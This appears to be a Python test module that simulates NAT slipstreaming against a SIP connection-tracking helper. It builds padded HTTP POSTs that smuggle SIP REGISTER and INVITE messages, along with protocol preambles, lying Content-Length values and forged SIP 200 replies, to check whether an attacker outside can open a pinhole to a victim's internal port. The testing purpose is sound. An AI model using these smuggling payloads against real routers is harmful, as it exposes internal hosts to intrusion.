# SPDX-License-Identifier: GPL-2.0
"""S1: NAT slipstreaming. A program inside follows a malicious page: it sends any bytes to port
5060 outside, but only behind what its own protocol writes first. The attacker outside sees what
arrives and answers as he likes. What he wants is a way to a port of the victim.
"""
from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Callable

from attacks import Intruder, Listener, Treasure, connected, difference
from calls import must, must_equal
from net import SERVER, STRANGER
from peer import World
from registry import IPTABLES, MASQUERADE, SHIFTED, SHIFTED6, over_tcp, scenario
from sip import Address, Message, host_port, sdp

END = b"\r\n-- the end of it --\r\n"
"""Behind all that either end says, so that the other one knows that it has heard it all."""
SIZES = (536, 777, 1001, 1220, 1388, 1400, 1440, 1448, 1460)
STAMPS = 12
"""Bytes that timestamps take of a segment (RFC 7323)."""
MOVED = ("translated", "pinhole_opened", "registration_granted", "call_started")
"""Counters of ours that stand still under all of this."""


@dataclass
class Plot:
    """What the victim's program sends, in pieces, each in a segment of its own; how the attacker
    answers what he heard of it; and the port that he wants."""

    how: str
    pieces: list[bytes]
    wants: Treasure
    answer: Callable[[bytes], list[bytes]] = lambda heard: []
    mss: int = 0
    begins: bytes = b""     # with which a segment from inside must have begun, or it was no attack


class Trap:
    """The malicious server on port 5060, and the victim inside."""

    def __init__(self, world: World, port: int = 8000) -> None:
        self.world = world
        world.translates = False    # nothing is: the other protocol's bytes are its own
        self.victim = world.plan.phone(1)
        self.evil: Address = (world.plan.far(SERVER), 5060)
        self.listener = Listener(world, world.line.outside, self.evil)
        self.intruder = Intruder(world)
        self.ports = iter(range(port, 32768, 2))
        self.before = world.line.counters()

    def treasure(self) -> Treasure:
        return Treasure(self.world, self.victim, next(self.ports))

    def register(self, port: int, transport: str = "tcp") -> bytes:
        own, evil = host_port((self.victim, port)), host_port(self.evil)
        return (f"REGISTER sip:{evil};transport={transport} SIP/2.0\r\n"
                f"Via: SIP/2.0/TCP {own};branch=z9hG4bK{port}\r\nMax-Forwards: 70\r\n"
                f"From: <sip:a@{evil}>;tag=a{port}\r\nTo: <sip:a@{evil}>\r\n"
                f"Call-ID: {port}\r\nCSeq: 1 REGISTER\r\n"
                f"Contact: <sip:a@{own};transport={transport}>\r\nExpires: 3600\r\n"
                "Content-Length: 0\r\n\r\n").encode()

    def invite(self, port: int) -> bytes:
        body = sdp(self.victim, (self.victim, port))
        own, evil = host_port((self.victim, 5060)), host_port(self.evil)
        return (f"INVITE sip:{evil} SIP/2.0\r\n"
                f"Via: SIP/2.0/TCP {own};branch=z9hG4bK{port}\r\nMax-Forwards: 70\r\n"
                f"From: <sip:a@{evil}>;tag=a{port}\r\nTo: <sip:a@{evil}>\r\n"
                f"Call-ID: {port}\r\nCSeq: 1 INVITE\r\nContact: <sip:a@{own}>\r\n"
                "Content-Type: application/sdp\r\n"
                f"Content-Length: {len(body)}\r\n\r\n{body}").encode()

    def post(self, before: int, smuggled: bytes, length: str = "") -> bytes:
        """An HTTP POST whose body is padded so that `smuggled` begins at a multiple of `before`."""
        tail = smuggled + END
        head = (f"POST /form HTTP/1.1\r\nHost: {host_port(self.evil)}\r\n"
                "Content-Type: text/plain\r\nContent-Length: {}\r\n\r\n")
        size = len(head.format("0000"))
        padding = -size % before if before else 0
        return head.format(length or f"{padding + len(tail):04}").encode() + b"x" * padding + tail

    def carry_out(self, plot: Plot) -> None:
        seen = len(self.world.capture.seen)
        browser = connected(self.world, self.world.line.inside, self.victim, self.evil, plot.mss)
        server = self.listener.next()
        browser.say(*plot.pieces)
        self._compare(plot.how, "to the server", server.hears(END), server.heard,
                      b"".join(plot.pieces))
        reply = plot.answer(bytes(server.heard))
        server.say(*reply)
        if reply:
            self._compare(plot.how, "to the victim", browser.hears(END), browser.heard,
                          b"".join(reply))
        must(not plot.begins or any(
            d.interface == "lan" and not d.leaving and d.payload.startswith(plot.begins)
            for d in self.world.capture.seen[seen:]), f"{plot.how}: no segment began with the bait")
        self._robs(plot)
        browser.close()
        server.close()

    def _compare(self, how: str, where: str, came: bool, heard: bytes, said: bytes) -> None:
        """An edit is a gain: the page reads it, and learns inside addresses."""
        if changed := difference(bytes(heard), said):
            if came:
                self.intruder.gained("edits", how, f"{where} {changed}")
            else:
                self.intruder.harm.append(f"{how}: {where} {changed}")

    def _robs(self, plot: Plot) -> None:
        """He tries every door there could be."""
        self.intruder.looks(plot.how, plot.wants.port)
        for host in (SERVER, STRANGER):
            self.intruder.knocks(plot.how, host, plot.wants)
            self.intruder.throws(plot.how, host, plot.wants)
        plot.wants.close()

    def verdict(self) -> None:
        if not self.intruder.gains["pinholes"]:
            self.intruder.looks("in the end")
        self.intruder.verdict()
        now = self.world.line.counters()
        must_equal({name: now[name] - self.before[name] for name in MOVED if now},
                   {name: 0 for name in MOVED if now}, "counters that moved")


def forged_200(heard: bytes) -> bytes:
    """The 200 that a registrar would send to the REGISTER in there, as the router left it."""
    asked = Message(heard[heard.index(b"REGISTER sip:"):].partition(b"\r\n\r\n")[0] + b"\r\n\r\n")
    lines = [f"{name}: {asked.get(name)}" for name in ("Via", "From", "To", "Call-ID", "CSeq")]
    return "\r\n".join(["SIP/2.0 200 OK", *lines, f"Contact: {asked.get('Contact')};expires=3600",
                        "Content-Length: 0\r\n\r\n"]).encode()


def bare(heard: bytes) -> list[bytes]:
    """The server on port 5060 forgets its HTTP and speaks SIP."""
    return [forged_200(heard), END]


def dressed(heard: bytes) -> list[bytes]:
    """The 200 in the body of an HTTP answer, at the beginning of a segment."""
    answer = forged_200(heard) + END
    return [b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
            b"Content-Length: %d\r\n\r\n" % len(answer), answer]


def _stamps(world: World, on: bool) -> None:
    for where in (world.line.inside, world.line.outside):
        where.sysctl("net.ipv4.tcp_timestamps", int(on))


@scenario("S1", "HTTP POST padded so that REGISTER begins a segment, at every MSS, and a forged 200",
          over_tcp(SHIFTED, MASQUERADE, SHIFTED6, IPTABLES), in_tree_fails=True)
def post_with_register(world: World) -> None:
    trap = Trap(world)
    for stamps in (True, False):
        _stamps(world, stamps)
        for place, size in enumerate(SIZES):
            if world.setup.family == 6 and size > 1440:
                continue
            wants = trap.treasure()
            data = size - STAMPS * stamps
            answer, kind = (bare, "alone") if place % 2 else (dressed, "in an HTTP answer")
            trap.carry_out(Plot(
                f"MSS {size}{' with timestamps' if stamps else ''}, 200 {kind}",
                [trap.post(data, trap.register(wants.port))], wants, answer, size, b"REGISTER sip:"))
    trap.verdict()


@scenario("S1", "HTTP POST padded so that INVITE with SDP begins a segment",
          over_tcp(SHIFTED, SHIFTED6), in_tree_fails=True)
def post_with_invite(world: World) -> None:
    trap = Trap(world)
    _stamps(world, False)
    for size in (s for s in SIZES if 1001 <= s <= 1440):
        wants = trap.treasure()
        trap.carry_out(Plot(f"MSS {size}", [trap.post(size, trap.invite(wants.port))], wants,
                            mss=size, begins=b"INVITE sip:"))
    trap.verdict()


@scenario("S1", "REGISTER that asks for a pinhole over UDP begins a segment of an HTTP POST",
          over_tcp(SHIFTED))
def post_for_udp(world: World) -> None:
    trap = Trap(world)
    wants = trap.treasure()
    bait = trap.register(wants.port, "udp") + END
    trap.carry_out(Plot("POST", [trap.post(0, b"")[:-len(END)], bait], wants, bare,
                        begins=b"REGISTER sip:"))
    trap.verdict()


def stun(*attributes: tuple[int, bytes], method: int = 0x0003) -> bytes:
    """A STUN message (RFC 8489 5); 3 is TURN's Allocate (RFC 8656)."""
    body = b"".join(struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)
                    for kind, value in attributes)
    return struct.pack("!HHI12s", method, len(body), 0x2112A442, b"slipstreamer") + body


USER_NAME = 0x0006


def _preambles(evil: str) -> dict[str, bytes]:
    """How programs begin that an attacker has in his hands; SIP follows in a segment of its own."""
    return {
        "TURN over TCP, in the user name": stun((USER_NAME, b"u" * 399 + b"\n")),
        "HTTP GET": f"GET / HTTP/1.1\r\nHost: {evil}\r\n\r\n".encode(),
        "an HTTP method that is SIP's": f"REGISTER / HTTP/1.1\r\nHost: {evil}\r\n\r\n".encode(),
        "HTTP by way of a proxy": f"INVITE http://{evil}/ HTTP/1.1\r\nHost: {evil}\r\n\r\n".encode(),
        "HTTP behind keep-alives": f"\r\n\r\nPOST / HTTP/1.1\r\nHost: {evil}\r\n\r\n".encode(),
        "TLS": b"\x16\x03\x01\x01\x00" + b"\x01\x00\x00\xfc\x03\x03" + bytes(249) + b"\n",
        "H.323 in TPKT": b"\x03\x00\x00\x40\x08\x02\x00\x01\x05" + bytes(54) + b"\n",
        "FTP": b"USER anonymous\r\n",
        "IRC": b"NICK a\r\nUSER a 0 * :a\r\n",
        "a mail": b"HELO page\r\nMAIL FROM:<a@b>\r\nDATA\r\n\r\n",
        "a SIP that is none": b"SIP sip:x\r\n\r\n",
        "RTSP": b"OPTIONS rtsp://x/ RTSP/1.0\r\nCSeq: 1\r\n\r\n",
    }


@scenario("S1", "REGISTER and INVITE begin a segment behind whatever a program says first",
          over_tcp(SHIFTED, SHIFTED6), in_tree_fails=True)
def preambles(world: World) -> None:
    trap = Trap(world)
    for name, first in _preambles(host_port(trap.evil)).items():
        wants = trap.treasure()
        trap.carry_out(Plot(f"REGISTER in {name}", [first, trap.register(wants.port) + END],
                            wants, bare, begins=b"REGISTER sip:"))
        wants = trap.treasure()
        trap.carry_out(Plot(f"INVITE in {name}", [first, trap.invite(wants.port) + END], wants,
                            begins=b"INVITE sip:"))
    trap.verdict()


def _line_feeds(text: bytes) -> bytes:
    return text.replace(b"\r\n", b"\n")


@scenario("S1", "REGISTER and INVITE in other clothes behind an HTTP request: LF alone, keep-alives, folds",
          over_tcp(SHIFTED), in_tree_fails=True)
def clothes(world: World) -> None:
    trap = Trap(world)
    kinds: dict[str, Callable[[bytes], list[bytes]]] = {
        "LF alone": lambda text: [_line_feeds(text)],
        "keep-alives before it": lambda text: [b"\r\n\r\n\r\n", b"\r\n\r\n" + text],
        "folded": lambda text: [text.replace(b"\r\nContact:", b"\r\nContact\r\n :")],
        "compact": lambda text: [text.replace(b"\r\nContact:", b"\r\nm:").replace(
            b"\r\nContent-Length:", b"\r\nl:")],
        "in two segments": lambda text: [text[:100], text[100:]],
        "twice": lambda text: [text, text],
    }
    for name, dress in kinds.items():
        for invites in (False, True):
            wants = trap.treasure()
            text = trap.invite(wants.port) if invites else trap.register(wants.port)
            pieces = [trap.post(0, b"")[:-len(END)], *dress(text), END]
            trap.carry_out(Plot(f"{'INVITE' if invites else 'REGISTER'}, {name}", pieces, wants,
                                lambda heard: [] if b"REGISTER sip:" not in heard else bare(heard)))
    trap.verdict()


HUGE = {
    "2^32 more": lambda n: str((1 << 32) + n),
    "2^64 more": lambda n: str((1 << 64) + n),
}
LENGTHS = {
    "2^31 more": lambda n: str((1 << 31) + n),
    "negative": lambda n: f"-{n}",
    "with a sign": lambda n: f"+{n}",
    "hexadecimal": lambda n: f"0x{n:x}",
    "forty digits": lambda n: f"{n:040}",
    "two that differ, the short one first": lambda n: f"{n}\r\nContent-Length: 3000",
    "two that differ, the long one first": lambda n: f"3000\r\nContent-Length: {n}",
    "two in one line": lambda n: f"{n}, 3000",
}


def _behind_length(trap: Trap, how: str, length: str, invites: bool) -> None:
    """A page whose Content-Length says `length`, and which goes on with SIP after 20 bytes."""
    wants = trap.treasure()
    text = trap.invite(wants.port) if invites else trap.register(wants.port)
    trap.carry_out(Plot(how, [trap.post(0, b"y" * 20 + text, length)], wants,
                        lambda heard: [] if b"REGISTER sip:" not in heard else bare(heard)))


@scenario("S1", "REGISTER and INVITE smuggled behind a Content-Length that lies, in HTTP",
          over_tcp(SHIFTED, SHIFTED6), in_tree_fails=True)
def lengths_in_http(world: World) -> None:
    """The helper that takes the wrong one of two lengths takes the rest of the body for messages,
    wherever segments begin. Against the in-tree helper it is these that succeed: two that differ
    with the short one first, and two in one line (gains.txt)."""
    trap = Trap(world)
    for name, length in LENGTHS.items():
        for method in ("REGISTER", "INVITE"):
            _behind_length(trap, f"{method}, {name}", length(20), method == "INVITE")
    trap.verdict()


def _message(trap: Trap, length: str, body: bytes) -> bytes:
    """A MESSAGE that a phone sends for a stranger: its text is what the stranger wrote."""
    evil = host_port(trap.evil)
    return (f"MESSAGE sip:{evil} SIP/2.0\r\nVia: SIP/2.0/TCP phone.invalid;branch=z9hG4bKm\r\n"
            f"From: <sip:a@{evil}>;tag=m\r\nTo: <sip:a@{evil}>\r\nCall-ID: m\r\nCSeq: 1 MESSAGE\r\n"
            f"Content-Type: text/plain\r\nContent-Length: {length}\r\n\r\n").encode() + body


@scenario("S1", "INVITE smuggled in the body of a SIP message behind a Content-Length that lies",
          over_tcp(SHIFTED, SHIFTED6), in_tree_fails=True)
def lengths_in_sip(world: World) -> None:
    trap = Trap(world)
    for name, length in LENGTHS.items():
        if name == "forty digits":
            continue    # in SIP that is a number like any other (RFC 3261 25.1)
        wants = trap.treasure()
        body = b"y" * 20 + trap.invite(wants.port) + END
        trap.carry_out(Plot(name, [_message(trap, length(20), body)], wants))
    trap.verdict()


@scenario("S1", "REGISTER and INVITE smuggled behind a Content-Length of 2^32+n, as older kernels let them",
          over_tcp(SHIFTED, SHIFTED6))
def huge_lengths(world: World) -> None:
    """Who keeps the lower half of the number takes what is behind n bytes for a message. The
    in-tree helper of Debian's 5.10.223 does (compare.py --old shows it); kernels that have its
    later corrections take no number above 2^32, and gain nothing here (gains.txt)."""
    trap = Trap(world)
    for name, length in HUGE.items():
        for method in ("REGISTER", "INVITE"):
            _behind_length(trap, f"{method} in HTTP, {name}", length(20), method == "INVITE")
        wants = trap.treasure()
        body = b"y" * 20 + trap.invite(wants.port) + END
        trap.carry_out(Plot(f"INVITE in SIP, {name}", [_message(trap, length(20), body)], wants))
    trap.verdict()


@scenario("S1", "INVITE as text of a SIP message, wherever it is cut", over_tcp(SHIFTED),
          subset=True, in_tree_fails=True)
def message_text(world: World) -> None:
    """The phone's own message is right in every way: what is in its body stays a body."""
    trap = Trap(world)
    for name, cut in (("in one segment", 0), ("INVITE begins a segment", 20), ("cut within it", 60)):
        wants = trap.treasure()
        body = b"y" * 20 + trap.invite(wants.port) + END
        whole = _message(trap, str(len(body)), body)
        at = len(whole) - len(body) + cut
        trap.carry_out(Plot(name, [whole[:at], whole[at:]] if cut else [whole], wants))
    trap.verdict()


def _forged_answers(trap: Trap, world: World, browser: Address) -> dict[str, bytes]:
    """200s to requests that nobody sent, in which the outside address stands for the victim."""
    evil, outside = host_port(trap.evil), host_port((world.line.router_address, browser[1]))
    head = (f"Via: SIP/2.0/TCP {outside};branch=z9hG4bKf\r\nFrom: <sip:a@{evil}>;tag=f\r\n"
            f"To: <sip:a@{evil}>;tag=g\r\nCall-ID: f\r\n")
    body = sdp(trap.evil[0], (trap.evil[0], 7000))
    return {
        "to a REGISTER": (f"SIP/2.0 200 OK\r\n{head}CSeq: 1 REGISTER\r\nContact: <sip:a@{outside}>"
                          ";expires=3600\r\nContent-Length: 0\r\n\r\n").encode(),
        "to an INVITE": (f"SIP/2.0 200 OK\r\n{head}CSeq: 1 INVITE\r\nContact: <sip:a@{evil}>\r\n"
                         f"Content-Type: application/sdp\r\nContent-Length: {len(body)}\r\n\r\n"
                         f"{body}").encode(),
    }


@scenario("S1", "forged 200 within an HTTP answer: no pinhole, and it tells nobody an inside address",
          over_tcp(SHIFTED, SHIFTED6), in_tree_fails=True)
def forged_answers(world: World) -> None:
    trap = Trap(world)
    for kind in ("to a REGISTER", "to an INVITE"):
        for dress in (True, False):
            wants = trap.treasure()

            def answer(_heard: bytes) -> list[bytes]:
                outside = next(o.source for o in reversed(world.capture.openings)
                               if o.interface == "wan" and o.leaving)
                text = _forged_answers(trap, world, outside)[kind] + END
                head = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(text)
                return [head, text] if dress else [text]
            trap.carry_out(Plot(f"200 {kind}{' in an HTTP answer' if dress else ' alone'}",
                                [trap.post(0, b"")], wants, answer))
    trap.verdict()
